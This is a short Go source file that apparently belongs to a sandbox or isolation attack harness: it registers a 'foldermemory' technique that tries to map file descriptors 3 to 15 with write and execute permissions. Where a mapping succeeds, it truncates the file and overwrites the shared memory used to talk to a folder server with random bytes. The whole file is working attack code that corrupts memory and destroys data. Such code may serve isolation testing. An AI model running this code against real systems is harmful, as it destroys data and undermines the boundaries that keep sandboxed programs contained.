package main

import (
	"math/rand"
	"os"
	"syscall"
	"unsafe"

	"example.com/hostile/attack"
)

func init() { techniques["foldermemory"] = tryFolderMemory }

// tryFolderMemory maps every open file for writing and for execution. It then overwrites what it could map: the memory
// in which it communicates with the server of a folder.
func tryFolderMemory() {
	const size, header = 4096 + 2*(512<<10), 4096
	for _, way := range attack.Ways {
		for fd := uintptr(3); fd < 16; fd++ {
			for _, kind := range []uintptr{syscall.MAP_SHARED, 3, syscall.MAP_SHARED | syscall.MAP_POPULATE} { // 3: MAP_SHARED_VALIDATE
				if at := way(syscall.SYS_MMAP, 0, size, syscall.PROT_READ|syscall.PROT_EXEC, kind, fd, 0); at > 0 {
					println("a file was mapped for execution")
				}
				at := way(syscall.SYS_MMAP, 0, size, syscall.PROT_READ|syscall.PROT_WRITE, kind, fd, 0)
				if at <= 0 {
					continue
				}
				println("memory was mapped")
				way(syscall.SYS_FTRUNCATE, fd, 0, 0, 0, 0, 0)
				way(syscall.SYS_MADVISE, uintptr(at), size, 9, 0, 0, 0) // MADV_REMOVE
				memory := unsafe.Slice((*byte)(unsafe.Pointer(uintptr(at))), size)
				rand.Read(memory[header:])
				for range 1000 {
					rand.Read(memory[rand.Intn(header-8):][:8])
				}
				os.Stat("/shared0/file")
			}
		}
	}
	println("all was tried")
}
